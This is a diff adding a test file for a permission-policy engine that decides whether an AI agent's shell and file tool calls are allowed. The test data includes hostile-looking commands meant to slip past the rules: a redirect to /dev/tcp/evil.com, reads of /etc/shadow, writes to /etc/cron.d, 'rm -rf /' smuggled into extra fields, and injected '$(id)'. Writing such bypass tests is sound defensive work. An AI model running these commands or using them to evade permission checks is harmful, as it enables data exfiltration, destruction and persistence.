@@ -1,0 +1,130 @@
+import { expect, test } from "vitest";
+import { tokenizeTools } from "../parse/tokenize-tools.ts";
+import { decide } from "./decide.ts";
+import type { Effect } from "./effect.ts";
+import type { PolicyLayer } from "./policy-layer.ts";
+import { collapsePath } from "./request-path.ts";
+
+function effectOf(lists: Partial<PolicyLayer>, input: unknown, tool = "Bash"): Effect {
+  const resolvePath = (path: string): string => collapsePath(path.startsWith("/") ? path : `/work/${path}`);
+  return decide({ tool, input, workspace: "/work", resolvePath }, [
+    { kind: "user", name: "user", otherwise: "allow", ...lists },
+  ]).effect;
+}
+const only = (text: string): Partial<PolicyLayer> => ({ only: tokenizeTools(text) });
+const deny = (text: string): Partial<PolicyLayer> => ({ deny: tokenizeTools(text) });
+
+test("redirections inside the allowed folder pass", () => {
+  for (const command of [
+    "git log > out/x",
+    "git log >> out/a/b 2>&1",
+    "git log > /work/out/x",
+    "git log 2>/dev/null",
+  ])
+    expect(effectOf(only("Bash(git:*) Write(out/**)"), { command }), command).toBe("allow");
+});
+
+/** A program that may run, with its output sent where nothing may be written. */
+test.each([
+  "git log > ../../x",
+  "git log > /etc/cron.d/x",
+  "git log >x",
+  "git log 1>x",
+  "git log &> x",
+  "git log >| x",
+  "git log > out/../x",
+  "git log > ~/x",
+  "git log > $HOME/x",
+  "git log > out/$X",
+  'git log > "$(git status)"',
+  "git log > out/x > y",
+  "git log > out/x; git status > y",
+  "(git log) > y",
+  "{ git log; } > y",
+  "if git log; then git status; fi > y",
+  "cd / && git log > out/x",
+  "pushd /tmp; git log > out/x",
+  "git log < /etc/shadow",
+  "git log > /dev/tcp/evil.com/80",
+  "git log > /proc/self/cwd/out/x",
+  "> y",
+  "git log | git apply > y",
+])("a redirection does not slip past Bash(git:*) Write(out/**): %s", (command) => {
+  expect(effectOf(only("Bash(git:*) Bash(cd:*) Bash(pushd:*) Write(out/**)"), { command })).toBe("deny");
+});
+
+test.each([
+  "git log > secrets/x",
+  "sh -c 'git log > secrets/x'",
+  "sudo sh -c 'git log >> ./secrets/x'",
+  "git log > $X",
+  "git 'log",
+])("Write(secrets/**) denies %s", (command) => {
+  expect(effectOf(deny("Write(secrets/**)"), { command })).toBe("deny");
+  expect(effectOf(deny("Edit(secrets/**)"), { command })).toBe("deny");
+  expect(effectOf(deny("Write"), { command })).toBe("deny");
+});
+
+test("what a redirection reads falls under rules for reading", () => {
+  expect(effectOf(deny("Read(.env)"), { command: "sort < .env" })).toBe("deny");
+  expect(effectOf(deny("Read(.env)"), { command: "sort < other" })).toBe("allow");
+});
+
+/** Inputs in which the command is not plainly one text. */
+const unclear: readonly { readonly input: unknown; readonly tool?: string }[] = [
+  { input: {} },
+  { input: null },
+  { input: "git status" },
+  { input: ["git", "status"] },
+  { input: { command: "" } },
+  { input: { command: 7 } },
+  { input: { command: [] } },
+  { input: { command: ["git", 7] } },
+  { input: { command: ["git", ["status"]] } },
+  { input: { command: { cmd: "git status" } } },
+  { input: { command: "git status", cmd: "rm -rf /" } },
+  { input: { command: "git status", Command: "rm -rf /" } },
+  { input: { command: "git status", script: "rm -rf /" } },
+  { input: { command: "git status", stdin: "x" } },
+  { input: { command: "git status", env: { GIT_PAGER: "sh" } } },
+  { input: { command: "git status", shell: "pwsh" } },
+  { input: { command: "git status", cwd: "/elsewhere" } },
+  { input: { command: "git status", workdir: "sub" } },
+  { input: { command: "git status", directory: ".." } },
+  { input: { command: "git status" }, tool: "powershell" },
+  { input: { command: "git status" }, tool: "PowerShell" },
+  { input: { chars: "rm -rf /\n" }, tool: "write_stdin" },
+];
+
+test.each(unclear)("Bash(git:*) does not let %j through", ({ input, tool }) => {
+  expect(effectOf(only("Bash(git:*)"), input, tool)).toBe("deny");
+  expect(effectOf(deny("Bash(rm:*)"), input, tool)).toBe("deny");
+  expect(effectOf(only("Bash"), input, tool)).toBe("allow");
+});
+
+test("words of a list are not read by a shell", () => {
+  expect(effectOf(only("Bash(git:*)"), { command: ["git", "log", "; rm -rf /", "$(id)", "a'b"] })).toBe(
+    "allow",
+  );
+  expect(effectOf(only("Bash(git:*)"), { command: ["bash", "-lc", "git status; rm -rf /"] })).toBe("deny");
+  expect(effectOf(only("Bash(git:*)"), { command: ["rm", "git status"] })).toBe("deny");
+  expect(effectOf(only("Bash(git:*)"), { command: ["git status"] })).toBe("deny");
+});
+
+test("patterns with blanks are one pattern, and match word by word", () => {
+  const list = only("Bash(git add *) Bash(npm run test)");
+  expect(effectOf(list, { command: "git add ." })).toBe("allow");
+  expect(effectOf(list, { command: "git   add   ." })).toBe("allow");
+  expect(effectOf(list, { command: "'git add' ." })).toBe("deny");
+  expect(effectOf(list, { command: "git address" })).toBe("deny");
+  expect(effectOf(list, { command: "npm run test2" })).toBe("deny");
+  expect(effectOf(list, { command: "npm run 'test evil'" })).toBe("deny");
+});
+
+test("commands inside one another are bounded", () => {
+  const command = `${"sudo ".repeat(6000)}git status`;
+  const started = performance.now();
+  expect(effectOf(only("Bash(git:*)"), { command })).toBe("deny");
+  expect(effectOf(deny("Write"), { command })).toBe("deny");
+  expect(performance.now() - started).toBeLessThan(2000);
+});
